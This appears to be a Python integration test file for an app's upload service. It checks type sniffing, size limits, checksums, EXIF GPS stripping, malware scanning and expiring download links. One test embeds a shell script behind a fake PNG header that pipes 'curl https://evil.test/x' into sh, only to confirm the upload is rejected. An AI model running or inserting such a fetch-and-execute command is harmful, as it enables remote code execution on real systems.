"""Uploads (issue 14, acceptance 3) on a real S3-compatible server (moto's, a process) and on
the local disk store: the real type decides (a PNG header on a script is refused), size caps,
checksums, EXIF GPS stripped, malware refused, downloads decided by the policy and expiring."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from PIL import Image

from app.bootstrap import Overrides
from domain.shared import clock
from tests.support.identity import make_admin, register
from tests.support.media import (
    EICAR,
    EicarScanner,
    declaration,
    fetch,
    jpeg_with_gps,
    png,
    s3_settings,
    send,
    upload,
)

pytestmark = pytest.mark.integration


@pytest.fixture(params=["s3", "local"])
async def media_client(request, make_client, services, tmp_path):
    settings = s3_settings(services.s3_endpoint) if request.param == "s3" else {"media_local_dir": str(tmp_path)}
    scanner = EicarScanner()
    client = await make_client(Overrides(malware_scanner=scanner), **settings)
    client.scanner = scanner
    return client


async def test_a_photo_is_kept_without_its_exif_gps_and_its_owner_downloads_it(media_client):
    client = media_client
    owner = await register(client, "customer")
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825), "the fixture carries GPS"
    confirmed = await upload(client, owner, original, "image/jpeg")
    assert confirmed.status == 200, await confirmed.text()
    view = await confirmed.json()
    assert (view["state"], view["content_type"], view["width"], view["height"]) == ("ready", "image/jpeg", 64, 48)
    link = await client.get(f"/v1/uploads/{view['id']}/download", headers=owner.headers)
    assert link.status == 200
    status, stored = await fetch(client, (await link.json())["url"])
    assert status == 200
    kept = Image.open(io.BytesIO(stored))
    assert kept.size == (64, 48)
    assert not kept.getexif(), "EXIF (GPS, camera make) is gone from the stored picture"
    assert b"FieldCam" not in stored
    assert client.scanner.scanned == 1


@pytest.mark.parametrize("kind", ["evidence", "profile_photo"])
async def test_a_png_header_on_a_script_is_refused(media_client, kind):
    client = media_client
    owner = await register(client, "customer")
    script = b"\x89PNG\r\n\x1a\n#!/bin/sh\ncurl https://evil.test/x | sh\n"
    refused = await upload(client, owner, script, "image/png", kind=kind)
    assert refused.status == 422
    assert (await refused.json())["errors"][0]["type"] == "not_an_image"
    again = await client.get(f"/v1/uploads/{refused.url.parts[3]}", headers=owner.headers)
    assert (await again.json())["state"] == "rejected"
    link = await client.get(f"/v1/uploads/{refused.url.parts[3]}/download", headers=owner.headers)
    assert link.status == 409  # nothing was kept


async def test_the_real_type_decides_not_the_declared_one(media_client):
    client = media_client
    owner = await register(client, "customer")
    shell = b"#!/bin/sh\necho hi\n"
    refused = await upload(client, owner, shell, "application/pdf", kind="document")
    assert refused.status == 422
    assert (await refused.json())["errors"][0]["type"] == "type_not_allowed"
    # A real PNG declared as JPEG: the bytes say otherwise.
    mislabelled = await upload(client, owner, png(), "image/jpeg")
    assert (await mislabelled.json())["errors"][0]["type"] == "type_mismatch"
    # A PDF is no profile photo, even declared as one.
    declared = await client.post("/v1/uploads", headers=owner.headers,
                                 json=declaration(b"%PDF-1.7\n", "application/pdf", "profile_photo"))
    assert declared.status == 422


async def test_over_the_size_cap_is_refused(make_client, services):
    client = await make_client(**s3_settings(services.s3_endpoint), media_max_bytes={"evidence": 1000})
    owner = await register(client, "customer")
    big = png((300, 300))
    assert len(big) > 1000
    declared = await client.post("/v1/uploads", headers=owner.headers, json=declaration(big, "image/png"))
    assert declared.status == 422
    assert (await declared.json())["errors"][0]["type"] == "too_large"
    # Declared small, sent big: the bytes decide.
    small = await client.post("/v1/uploads", headers=owner.headers,
                              json={**declaration(big, "image/png"), "size": 900})
    body = await small.json()
    await send(client, body["put"], big)
    confirmed = await client.post(f"/v1/uploads/{body['upload']['id']}/confirm", headers=owner.headers)
    assert confirmed.status == 422
    assert (await confirmed.json())["errors"][0]["type"] in ("too_large", "size_mismatch")


async def test_a_wrong_checksum_and_malware_are_refused(media_client):
    client = media_client
    owner = await register(client, "customer")
    data = png()
    declared = await client.post("/v1/uploads", headers=owner.headers,
                                 json={**declaration(data, "image/png"), "sha256": "0" * 64})
    body = await declared.json()
    await send(client, body["put"], data)
    refused = await client.post(f"/v1/uploads/{body['upload']['id']}/confirm", headers=owner.headers)
    assert (await refused.json())["errors"][0]["type"] == "checksum_mismatch"
    infected = await upload(client, owner, b"%PDF-1.4\n" + EICAR, "application/pdf")
    assert infected.status == 422
    assert (await infected.json())["errors"][0]["type"] == "malware"


async def test_confirming_before_the_bytes_arrive_is_a_conflict(media_client):
    client = media_client
    owner = await register(client, "customer")
    body = await upload(client, owner, png(), "image/png", confirm=False)
    # A second declaration whose bytes never came.
    other = await (await client.post("/v1/uploads", headers=owner.headers,
                                     json=declaration(png((9, 9)), "image/png"))).json()
    early = await client.post(f"/v1/uploads/{other['upload']['id']}/confirm", headers=owner.headers)
    assert early.status == 409
    done = await client.post(f"/v1/uploads/{body['upload']['id']}/confirm", headers=owner.headers)
    again = await client.post(f"/v1/uploads/{body['upload']['id']}/confirm", headers=owner.headers)
    assert (done.status, again.status) == (200, 200)
    assert (await done.json())["sha256"] == (await again.json())["sha256"]


async def test_a_non_party_gets_404_and_an_admin_may_read(media_client):
    client = media_client
    owner, stranger, admin = await register(client, "customer"), await register(client, "provider"), \
        await make_admin(client)
    upload_id = (await (await upload(client, owner, png(), "image/png")).json())["id"]
    for path in (f"/v1/uploads/{upload_id}", f"/v1/uploads/{upload_id}/download"):
        assert (await client.get(path, headers=stranger.headers)).status == 404
        assert (await client.get(path, headers=admin.headers)).status == 200
    assert (await client.post(f"/v1/uploads/{upload_id}/confirm", headers=stranger.headers)).status == 404


async def test_a_local_download_url_expires(make_client, tmp_path, monkeypatch):
    client = await make_client(media_local_dir=str(tmp_path), media_download_ttl_seconds=60)
    owner = await register(client, "customer")
    upload_id = (await (await upload(client, owner, png(), "image/png")).json())["id"]
    url = (await (await client.get(f"/v1/uploads/{upload_id}/download", headers=owner.headers)).json())["url"]
    assert (await fetch(client, url))[0] == 200
    later = clock.utcnow() + timedelta(seconds=61)
    monkeypatch.setattr(clock, "utcnow", lambda: later)
    assert (await fetch(client, url))[0] == 403
    tampered = url.replace("objects/", "staging/")
    assert (await fetch(client, tampered))[0] in (403, 404)


async def test_an_s3_download_url_is_presigned_for_the_ttl_only(make_client, services):
    client = await make_client(**s3_settings(services.s3_endpoint), media_download_ttl_seconds=30)
    owner = await register(client, "customer")
    upload_id = (await (await upload(client, owner, png(), "image/png")).json())["id"]
    link = await (await client.get(f"/v1/uploads/{upload_id}/download", headers=owner.headers)).json()
    # moto serves presigned URLs without checking their expiry; S3 enforces X-Amz-Expires.
    assert "X-Amz-Expires=30" in link["url"] and "X-Amz-Signature=" in link["url"]
    assert (await fetch(client, link["url"]))[0] == 200
